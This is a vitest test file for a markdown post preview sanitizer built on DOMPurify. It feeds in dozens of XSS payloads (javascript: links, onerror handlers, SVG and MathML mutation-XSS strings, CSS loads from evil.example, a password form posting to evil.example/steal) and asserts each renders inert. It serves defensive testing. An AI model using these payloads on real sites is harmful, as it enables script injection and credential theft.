import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { defaultMarkupSettings, type MarkupSettings } from './markup-settings';
import { renderPostBody } from './render-post';
import { sanitizePreviewHtml, withPreviewRules } from './sanitize';

// The cases of ../shared/reference/security.md ("Preview"): each post is
// rendered with linkerd.io's settings (raw HTML passes, the worst case) and
// with Hugo's defaults, sanitized, then parsed twice as the preview frame
// would (mutation XSS needs a second parse) and searched for anything that
// can run script, load through CSS, submit data or clobber the DOM (styles
// stay: the preview is an isolated frame, issue 11).

const window = new JSDOM('').window;
const purify = createDOMPurify(window as unknown as Parameters<typeof createDOMPurify>[0]);

const linkerd: MarkupSettings = {
  ...defaultMarkupSettings,
  unsafe: true,
  attributeBlock: true,
  wrapStandAloneImageWithinParagraph: false,
};

const settingsToTry = [
  ['linkerd.io settings (unsafe)', linkerd],
  ["Hugo's defaults", defaultMarkupSettings],
] as const;

const forbiddenElements = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'button',
  'textarea',
  'select',
  'option',
  'base',
  'link',
  'meta',
  'svg',
  'math',
  'template',
  'noscript',
  'portal',
  'dialog',
  'xmp',
  'noembed',
  'noframes',
  'plaintext',
]);
const urlAttributes = [
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'poster',
  'background',
  'cite',
  'xlink:href',
  'srcset',
];

/** Sanitized preview HTML of a post body, after a check that it is harmless; returns the parsed preview. */
function preview(markdown: string, markup: MarkupSettings): HTMLElement {
  const rendered = renderPostBody(markdown, { markup }).html;
  const html = sanitizePreviewHtml(rendered, purify);
  const once = parse(html);
  expectHarmless(once, html);
  const twice = parse(once.innerHTML);
  expectHarmless(twice, once.innerHTML);
  // The preview frame shows DOMPurify's nodes themselves: the same as the HTML parsed once.
  const nodes = window.document.createElement('div');
  nodes.append(
    withPreviewRules(purify, {}, (config) =>
      purify.sanitize(rendered, { ...config, RETURN_DOM_FRAGMENT: true }),
    ),
  );
  expectHarmless(nodes, html);
  expect(nodes.innerHTML).toBe(once.innerHTML);
  return once;
}

function parse(html: string): HTMLElement {
  const container = window.document.createElement('div');
  container.innerHTML = html;
  return container;
}

const cssThatLoads = /url\s*\(|@import|expression\s*\(|behavior|-moz-binding|image-set/i;

function expectHarmless(root: HTMLElement, html: string): void {
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.localName;
    expect(forbiddenElements.has(tag), `<${tag}> in ${html}`).toBe(false);
    if (tag === 'style') expect(element.textContent, html).not.toMatch(cssThatLoads);
    if (tag === 'input') {
      expect(element.getAttribute('type'), html).toBe('checkbox');
      expect(element.hasAttribute('disabled'), html).toBe(true);
    }
    for (const { name, value } of Array.from(element.attributes)) {
      expect(name.startsWith('on'), `${name} on <${tag}> in ${html}`).toBe(false);
      expect(['srcdoc', 'formaction', 'action'].includes(name), `${name} in ${html}`).toBe(false);
      // Styles stay (the preview is an isolated frame) but load and run nothing.
      if (name === 'style') expect(value, html).not.toMatch(cssThatLoads);
      if (name === 'id' || name === 'name') expect(value, html).toMatch(/^user-content-/);
      if (urlAttributes.includes(name)) {
        // Browsers drop tabs and line breaks from URLs and trim them.
        const url = value
          .replace(/[\t\n\r]/g, '')
          .trim()
          .toLowerCase();
        expect(url, `${name}="${value}" in ${html}`).not.toMatch(/^(javascript|vbscript|data):/);
      }
    }
  }
}

describe.each(settingsToTry)('malicious posts render harmlessly (%s)', (_name, markup) => {
  it('code-fence language <style/onload=…> stays a class name (MarkText CVE-2021-29996)', () => {
    for (const fence of [
      '```<style/onload=alert(1)>\nx\n```',
      '~~~"><img src=x onerror=alert(1)>\nx\n~~~',
    ]) {
      const page = preview(fence, markup);
      expect(page.querySelector('pre > code')?.textContent).toBe('x\n');
    }
  });

  it.each([
    '[a](javascript:alert(1))',
    '[a](JavaScript:alert(1))',
    '[a](java&#x09;script:alert(1))',
    '[a](<javascript:alert(1)>)',
    '[a][r]\n\n[r]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="jav&#x0A;ascript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '[a](vbscript:msgbox(1))',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  ])('javascript: links lose their target (MarkText #2601): %s', (markdown) => {
    const page = preview(markdown, markup);
    // The link stays, without its target (raw HTML is omitted altogether with unsafe off).
    if (markup.unsafe || !markdown.startsWith('<a')) expect(page.querySelector('a')).not.toBeNull();
  });

  it('javascript: image sources are dropped', () => {
    const page = preview('![i](javascript:alert(1))', markup);
    expect(page.querySelector('img')?.getAttribute('alt')).toBe('i');
  });

  it.each([
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    'text <embed type="image/svg+xml" src="https://evil.example/x.svg"> text',
  ])('<embed> and <object> are removed (Joplin CVE-2020-15930): %s', (markdown) => {
    preview(markdown, markup);
  });

  it.each([
    '<iframe onload="alert(1)" src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
  ])('<iframe onload> is removed (Zettlr #1716): %s', (markdown) => {
    preview(markdown, markup);
  });

  it.each([
    '<style>@import "https://evil.example/x.css"; p { color: red }</style>',
    'text <style>*{background:url(https://evil.example/t.png)}</style> text',
    '<style>.a { background: u\\72l(https://evil.example/t.png); width: expression(alert(1)) }</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
  ])('<style> loads and runs nothing: %s', (markdown) => {
    preview(markdown, markup);
  });

  it.each([
    '<div style="position:fixed;inset:0;background:url(https://evil.example/t.png)">Fake</div>',
    '<a href="https://evil.example" style="behavior:url(x.htc);color:red">x</a>',
    'para\n{style="background-image:image-set(\'https://evil.example/t.png\' 1x)"}',
    '| a |\n|:-:|\n| b |',
  ])('an inline style loads and runs nothing: %s', (markdown) => {
    const page = preview(markdown, markup);
    if (markup.unsafe) expect(page.textContent).not.toBe('');
  });

  it('id and name cannot clobber the DOM', () => {
    const page = preview(
      [
        '<img name="getElementById" src="x.png">',
        '<a id="defaultView">a</a> <a name="cookie">c</a>',
        '',
        '## location',
        '',
        '## Title {#body}',
        '',
        'Note[^1]',
        '',
        '[^1]: n',
      ].join('\n'),
      markup,
    );
    const ids = Array.from(page.querySelectorAll('[id]'), (element) => element.id);
    expect(ids.length).toBeGreaterThan(0);
  });

  it('forms cannot be submitted', () => {
    const page = preview(
      '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><input type="submit"><button formaction="https://evil.example">Log in</button></form>',
      markup,
    );
    expect(page.querySelector('form')).toBeNull();
  });

  it.each([
    '<svg onload="alert(1)"></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ])('<svg onload> and friends are removed: %s', (markdown) => {
    preview(markdown, markup);
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)">',
    '![x](x"onerror="alert(1))',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">x</details>',
    '<body onload="alert(1)">',
  ])('<img onerror> and other handlers are removed: %s', (markdown) => {
    preview(markdown, markup);
  });

  it.each([
    '{{< youtube "\\"><script>alert(1)</script>" >}}',
    '{{< youtube id="x\' onerror=\'alert(1)" >}}',
    '{{< x user="<img src=x onerror=alert(1)>" id="1\\"><script>alert(1)</script>" >}}',
    '{{< figure src="javascript:alert(1)" link="javascript:alert(2)" caption="<script>alert(3)</script>" alt="\\" onerror=\\"alert(4)" >}}',
    '{{< note title="\\"><svg onload=alert(1)>" >}}\n<img src=x onerror=alert(2)>\n{{< /note >}}',
    '{{< unknown a="<b onmouseover=alert(1)>" b=`</code><script>alert(2)</script>` >}}',
  ])('shortcode arguments with HTML and quotes stay text: %s', (markdown) => {
    const page = preview(markdown, markup);
    expect(page.querySelector('[data-shortcode]')).not.toBeNull();
  });

  it('a ref argument cannot break out of the link it sits in', () => {
    const page = preview('[x]({{< ref "\\" onclick=\\"alert(1)" >}})', markup);
    expect(page.querySelector('a')?.getAttribute('href')).toBe('shortcode-ref');
  });

  it.each([
    // DOMPurify's and MarkText #2360's classics: markup that changes meaning when parsed again.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
    '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>"></p></svg>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<template><script>alert(1)</script></template>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
  ])('mutation XSS classics stay inert: %s', (markdown) => {
    preview(markdown, markup);
  });
});
